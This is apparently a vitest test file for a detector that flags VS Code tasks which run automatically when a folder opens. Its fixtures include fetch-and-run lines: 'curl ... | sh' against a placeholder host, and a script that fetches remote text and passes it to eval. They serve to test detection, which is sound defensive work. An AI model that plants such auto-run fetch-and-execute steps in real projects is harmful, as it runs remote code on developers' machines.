import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-folder-open.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

const task = (command: string, more: object = {}) =>
  JSON.stringify({ tasks: [{ label: 'env', command, runOptions: { runOn: 'folderOpen' }, ...more }] })

test.each<[string, Files, string[]]>([
  [
    'fetches and runs',
    { '.vscode/tasks.json': task('curl -s https://files.invalid/a | sh') },
    ['decisive 14 .vscode/tasks.json:1:71'],
  ],
  [
    'through a script and a module',
    {
      '.vscode/tasks.json': task('npm run dev'),
      'package.json': '{"scripts":{"dev":"node a.js"}}',
      'a.js': "require('./b')",
      'b.js': "fetch('https://c.invalid').then((r) => r.text()).then((t) => eval(t))",
    },
    ['decisive 14 b.js:1:62'],
  ],
  [
    'asks a server',
    { '.vscode/tasks.json': task('curl https://files.invalid/a') },
    ['strong 6 .vscode/tasks.json:1:37'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'packages are installed',
    { '.vscode/tasks.json': task('npm ci'), 'package.json': '{"scripts":{"prepare":"husky"}}' },
    ['context 1 .vscode/tasks.json:1:37'],
  ],
  ['a watcher', { '.vscode/tasks.json': task('tsc --watch') }, ['context 1 .vscode/tasks.json:1:37']],
  [
    'a task by hand',
    { '.vscode/tasks.json': '{"tasks":[{"label":"a","command":"curl https://files.invalid/a | sh"}]}' },
    [],
  ],
  [
    'the application asks its server',
    {
      '.vscode/tasks.json': task('node a.js'),
      'a.js': "fetch('https://api.example/v1').then((r) => r.json()).then(console.log)",
    },
    ['context 1 .vscode/tasks.json:1:37'],
  ],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
